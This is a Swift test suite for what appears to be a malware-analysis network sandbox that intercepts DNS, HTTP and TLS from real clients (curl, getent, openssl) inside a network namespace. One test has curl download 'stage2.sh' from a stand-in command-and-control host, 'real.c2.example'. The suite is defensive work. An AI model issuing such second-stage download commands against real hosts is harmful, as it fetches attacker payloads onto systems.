#if os(Linux)
import Foundation
import Glibc
import PetriModel
@testable import PetriNet
import Testing

/// Stock clients (curl, openssl) run inside the lab's netns with nsenter: real resolvers, real
/// ClientHellos, real HTTP stacks against the services.
@Suite(.serialized) struct RealClientTests {
    func inNetns(_ lab: Lab, _ args: [String]) -> (status: Int32, out: String) {
        run("/usr/bin/nsenter", ["--net=/proc/\(getpid())/fd/\(lab.ns.fd)", "--"] + args)
    }

    @Test func curlResolvesAndDownloadsThroughTheSinkhole() async throws {
        guard Prereq.root, Prereq.nft,
              Prereq.require("curl", FileManager.default.isExecutableFile(atPath: "/usr/bin/curl")),
              Prereq.require("nsenter", FileManager.default.isExecutableFile(atPath: "/usr/bin/nsenter")) else { return }
        let lab = try await Lab()
        // curl resolves through the host's resolv.conf: whatever nameserver it names is routed to lo, where petri answers.
        let page = inNetns(lab, ["/usr/bin/curl", "-s", "-m", "5", "-A", "petri-real", "http://real.c2.example/index.html?x=1"])
        #expect(page.status == 0 && page.out.contains("It works!"))
        let out = lab.dir.appendingPathComponent("dl.bin")
        let dl = inNetns(lab, ["/usr/bin/curl", "-s", "-m", "5", "-o", out.path, "http://real.c2.example/files/stage2.sh"])
        #expect(dl.status == 0)
        #expect((try? Data(contentsOf: out)).map(Array.init) == HTTPResponder.builtinPayload)
        let s = await lab.net.stop()
        let q = try #require(s.dns.first { $0.name == "real.c2.example" && $0.type == "A" })
        let h = try #require(s.http.first { $0.path == "/index.html" })
        #expect(h.host == "real.c2.example" && h.headers["user-agent"] == "petri-real" && h.query == "x=1")
        // curl may take the AAAA answer (the sandbox has an IPv6 address too) or the A one
        let conn = try #require(s.connections.first { $0.id == h.connection })
        #expect(conn.domain == "real.c2.example" && s.dns.contains { $0.name == "real.c2.example" && $0.answers.contains(conn.ip) })
        #expect(q.answers.count == 1)
        #expect(s.http.contains { $0.path == "/files/stage2.sh" && $0.response == "payload:builtin" })
    }

    @Test func glibcResolverGetsAnswersFromTheStubAddress() async throws {
        guard Prereq.root, Prereq.require("getent, unshare", FileManager.default.isExecutableFile(atPath: "/usr/bin/getent")
                                          && FileManager.default.isExecutableFile(atPath: "/usr/bin/unshare")) else { return }
        let lab = try await Lab()
        let conf = lab.dir.appendingPathComponent("resolv.conf")
        try Data("nameserver 127.0.0.53\noptions timeout:1 attempts:1\n".utf8).write(to: conf)
        // a private mount namespace (unshare makes its propagation private) sees the sandbox's resolv.conf
        let r = inNetns(lab, ["/usr/bin/unshare", "--mount", "--", "/bin/sh", "-c",
                              "mount --bind \(conf.path) /etc/resolv.conf && exec getent ahosts glibc.c2.example"])
        #expect(r.status == 0 && r.out.hasPrefix("198.18.") || r.out.hasPrefix("fd00:5eed::"), "\(r.status) \(r.out)")
        let s = await lab.net.stop()
        #expect(s.dns.contains { $0.name == "glibc.c2.example" && $0.type == "A" })
        #expect(s.dns.contains { $0.name == "glibc.c2.example" && $0.type == "AAAA" })
    }

    @Test func unprivilegedClientIsAnsweredToo() async throws {
        guard Prereq.root, Prereq.nft,
              Prereq.require("setpriv, curl", FileManager.default.isExecutableFile(atPath: "/usr/bin/setpriv")
                                              && FileManager.default.isExecutableFile(atPath: "/usr/bin/curl")) else { return }
        let lab = try await Lab()
        // uid 1000 without capabilities, as the sample runs: the routes and the TPROXY rule still apply
        let r = inNetns(lab, ["/usr/bin/setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "--inh-caps=-all",
                              "/usr/bin/curl", "-s", "-m", "5", "http://198.51.100.77:7777/as-user"])
        #expect(r.status == 0 && r.out.contains("It works!"))
        let s = await lab.net.stop()
        #expect(s.http.contains { $0.path == "/as-user" && $0.host == "198.51.100.77:7777" })
    }

    @Test func opensslClientHelloIsFingerprinted() async throws {
        guard Prereq.root, Prereq.nft,
              Prereq.require("openssl", FileManager.default.isExecutableFile(atPath: "/usr/bin/openssl")) else { return }
        let lab = try await Lab()
        _ = inNetns(lab, ["/usr/bin/openssl", "s_client", "-connect", "198.51.100.44:8443", "-servername", "tls.c2.example", "-alpn", "h2,http/1.1"])
        let s = await lab.net.stop()
        let t = try #require(s.tls.first)
        #expect(t.sni == "tls.c2.example" && t.alpn == ["h2", "http/1.1"] && t.error == nil)
        #expect(t.ja3?.hasPrefix("771,") == true && t.ja3Hash?.count == 32)
        #expect(s.connections.contains { $0.id == t.connection && $0.port == 8443 && $0.service == "tls" })
    }
}
#endif
